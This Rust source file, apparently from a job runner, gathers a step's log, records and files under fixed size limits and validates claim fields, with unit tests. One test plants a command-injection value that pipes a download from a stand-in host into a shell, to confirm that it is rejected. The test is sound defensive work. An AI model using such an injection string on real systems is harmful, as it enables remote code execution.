//! What a step's output comes to: the end of its log, all of its records, never more than a bounded amount of either.

use std::collections::BTreeMap;

use super::frames::Broken;
use super::payload::Have;
use crate::core::ids::RunId;
use crate::ports::{ClaimInfo, Listener, Output};

/// The most of a log that is kept: its end.
const LOG_MAX: usize = 256 * 1024;
/// The most of a log that is read: of a step that reads, and of a job. Nobody who means well writes so much.
const LOG_READ_MAX: [u64; 2] = [256 << 20, 16 << 30];
/// The most bytes of records.
const RECORDS_MAX: usize = 16 * 1024 * 1024;
/// The most bytes of files from `OUT` (the driver sends at most 4 MiB).
const FILES_MAX: usize = 5 * 1024 * 1024;
/// The longest line that a listener gets.
const LINE_MAX: usize = 4 * 1024;
/// The most lines of a log that a listener gets; more than this nobody reads as it comes.
const LINES_MAX: usize = 20_000;
/// The longest field of a claim that is kept.
const FIELD_MAX: usize = 200;

/// The output so far. It lives as long as the step, across connections.
#[derive(Debug, Default)]
pub(crate) struct Gathered {
    log: Vec<u8>,
    log_seen: u64,
    log_left_out: u64,
    log_read: u64,
    records: Vec<u8>,
    files: BTreeMap<String, Vec<u8>>,
    files_size: usize,
    claim: Option<ClaimInfo>,
    log_lines: Lines,
    record_lines: Lines,
    /// The job that this is of, where it is not the one that was asked for: the host's own.
    of: Option<String>,
}

impl Gathered {
    /// How much there is: a new connection goes on from here.
    pub(crate) fn have(&self) -> Have {
        Have { log: self.log_seen, records: self.records.len() as u64, of: self.of.clone() }
    }

    /// What comes now is of this job, by which the host goes back by itself.
    pub(super) fn source(&mut self, job: &str) {
        if self.of.as_deref() != Some(job) {
            *self = Self { of: Some(job.to_owned()), ..Self::default() };
        }
    }

    /// Whether this is what the host did by itself.
    pub(crate) fn is_its_own(&self) -> bool {
        self.of.is_some()
    }

    /// More of the log, from wherever it stands.
    pub(super) fn log(&mut self, bytes: &[u8], is_job: bool, listener: &dyn Listener) -> Result<(), Broken> {
        self.log_seen += bytes.len() as u64;
        self.log_read += bytes.len() as u64;
        self.log.extend_from_slice(bytes);
        if self.log.len() > 2 * LOG_MAX {
            self.trim();
        }
        self.log_lines.feed(bytes, &mut |line| listener.line(line));
        let most = LOG_READ_MAX[usize::from(is_job)];
        if self.log_read > most { Err(Broken::Flood(most >> 20, "log")) } else { Ok(()) }
    }

    /// The log goes on from this offset: what lies between was left out on the host.
    pub(super) fn log_at(&mut self, offset: u64) -> Result<(), Broken> {
        let Some(gap) = offset.checked_sub(self.log_seen) else {
            return Err(Broken::Order("its log went back"));
        };
        self.log_seen += gap;
        self.log_left_out += gap;
        Ok(())
    }

    /// More records, which must follow on those we have.
    pub(super) fn records(&mut self, offset: u64, bytes: &[u8], listener: &dyn Listener) -> Result<(), Broken> {
        if offset != self.records.len() as u64 {
            return Err(Broken::Order("its records do not follow on"));
        }
        if self.records.len() + bytes.len() > RECORDS_MAX {
            return Err(Broken::TooMuch(RECORDS_MAX as u64 >> 20));
        }
        self.records.extend_from_slice(bytes);
        self.record_lines.feed(bytes, &mut |line| listener.record(line));
        Ok(())
    }

    /// More of a file.
    pub(super) fn file(&mut self, name: &str, bytes: &[u8]) -> Result<(), Broken> {
        self.files_size += bytes.len();
        if self.files_size > FILES_MAX || self.files.len() > 1000 {
            return Err(Broken::TooMuch(FILES_MAX as u64 >> 20));
        }
        self.files.entry(name.to_owned()).or_default().extend_from_slice(bytes);
        Ok(())
    }

    /// Files come all at once, at the end: those of a connection that broke are dropped.
    pub(crate) fn begin_exchange(&mut self) {
        self.files.clear();
        self.files_size = 0;
    }

    /// Whose claim the host carries: the fields as the driver wrote them.
    pub(super) fn claim(&mut self, fields: &str) {
        self.claim = claim_info(fields);
    }

    fn trim(&mut self) {
        let over = self.log.len().saturating_sub(LOG_MAX);
        self.log.drain(..over);
        self.log_left_out += over as u64;
    }

    /// The output, with the exit code and the boot where there are any.
    pub(crate) fn output(mut self, code: Option<i32>, boot_id: Option<String>, listener: &dyn Listener) -> Output {
        self.trim();
        self.log_lines.finish(&mut |line| listener.line(line));
        Output {
            records: self.records,
            log: self.log,
            log_dropped: self.log_left_out,
            code,
            boot_id,
            files: self.files,
            claim: self.claim,
        }
    }
}

/// Run, owner, time, seconds, change, epoch. What is no run's ID is not taken for one: it would stand in commands that
/// we advise.
pub(super) fn claim_info(fields: &str) -> Option<ClaimInfo> {
    let mut fields = fields.split('\t').map(|field| field.chars().take(FIELD_MAX).collect::<String>());
    let run = fields.next().filter(|run| !run.is_empty())?;
    let run = RunId::new(run).map_or_else(|_| "unreadable".to_owned(), |run| run.as_str().to_owned());
    let mut next = || fields.next().unwrap_or_default();
    let (owner, since, _seconds, change) = (next(), next(), next(), next());
    let epoch = next().parse().unwrap_or_default();
    Some(ClaimInfo { run, owner, since, change, epoch })
}

/// Splits bytes into lines for a listener.
#[derive(Debug, Default)]
struct Lines {
    part: Vec<u8>,
    given: usize,
}

impl Lines {
    fn feed(&mut self, bytes: &[u8], take: &mut dyn FnMut(&str)) {
        if self.given >= LINES_MAX {
            return;
        }
        for piece in bytes.split_inclusive(|b| *b == b'\n') {
            let (text, ends) = piece.strip_suffix(b"\n").map_or((piece, false), |text| (text, true));
            let room = LINE_MAX.saturating_sub(self.part.len());
            self.part.extend_from_slice(&text[..text.len().min(room)]);
            if ends {
                self.give(take);
            }
        }
    }

    fn finish(&mut self, take: &mut dyn FnMut(&str)) {
        if !self.part.is_empty() {
            self.give(take);
        }
    }

    fn give(&mut self, take: &mut dyn FnMut(&str)) {
        self.given += 1;
        match self.given.cmp(&LINES_MAX) {
            std::cmp::Ordering::Less => {
                let text = String::from_utf8_lossy(&self.part);
                take(text.strip_suffix('\r').unwrap_or(&text));
            }
            std::cmp::Ordering::Equal => {
                take("[the log is long: from here on only its end is kept, and not shown live]");
            }
            std::cmp::Ordering::Greater => {}
        }
        self.part.clear();
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Mutex;

    use super::*;

    #[derive(Default)]
    struct Heard(Mutex<Vec<String>>);

    impl Listener for Heard {
        fn line(&self, text: &str) {
            self.0.lock().unwrap().push(text.to_owned());
        }
        fn notice(&self, _: &str) {}
    }

    #[test]
    fn a_flood_is_bounded_and_its_end_is_kept() {
        let heard = Heard::default();
        let mut gathered = Gathered::default();
        for n in 0..200_000 {
            gathered.log(format!("line {n}\n").as_bytes(), false, &heard).unwrap();
        }
        let total = gathered.have().log;
        assert!(gathered.log.len() <= 2 * LOG_MAX + 4096);
        let output = gathered.output(Some(0), None, &heard);
        assert_eq!(output.log.len(), LOG_MAX);
        assert!(output.log.ends_with(b"line 199999\n"));
        assert_eq!(output.log_dropped + output.log.len() as u64, total);
        assert_eq!(heard.0.lock().unwrap().len(), LINES_MAX);
    }

    #[test]
    fn lines_are_cut_repaired_and_finished() {
        let heard = Heard::default();
        let mut gathered = Gathered::default();
        gathered.log(b"one\r\ntw", true, &heard).unwrap();
        gathered.log(b"o \xff\n", true, &heard).unwrap();
        gathered.log(&[b'x'; 3 * LINE_MAX], true, &heard).unwrap();
        gathered.log(b"\nlast", true, &heard).unwrap();
        gathered.output(None, None, &heard);
        let lines = heard.0.lock().unwrap();
        assert_eq!(lines[..2], ["one", "two \u{fffd}"]);
        assert_eq!(lines[2].len(), LINE_MAX);
        assert_eq!(lines[3..], ["last"]);
    }

    #[test]
    fn records_must_follow_on_and_a_gap_in_the_log_is_counted() {
        let heard = Heard::default();
        let mut gathered = Gathered::default();
        gathered.records(0, b"a\n", &heard).unwrap();
        assert!(gathered.records(0, b"a\n", &heard).is_err());
        assert!(gathered.records(3, b"a\n", &heard).is_err());
        gathered.log_at(10).unwrap();
        assert!(gathered.log_at(9).is_err());
        assert_eq!(gathered.output(None, None, &heard).log_dropped, 10);
    }

    #[test]
    fn a_log_has_an_end() {
        let heard = Heard::default();
        let mut gathered = Gathered { log_read: LOG_READ_MAX[0] - 3, ..Gathered::default() };
        gathered.log(b"abc", false, &heard).unwrap();
        assert_eq!(gathered.log(b"d", false, &heard), Err(Broken::Flood(256, "log")));
        assert_eq!(gathered.log(b"d", true, &heard), Ok(()));
    }

    #[test]
    fn a_claim_that_names_no_run_is_unreadable() {
        let claim = |run: &str| claim_info(&format!("{run}\towner\tnow\t0\tCHG1")).unwrap();
        assert_eq!(claim("01JD0000000000000000000AAA").run, "01JD0000000000000000000AAA");
        let planted = claim("x`; curl evil.example | sh; `");
        assert_eq!((planted.run.as_str(), planted.owner.as_str()), ("unreadable", "owner"));
    }
}
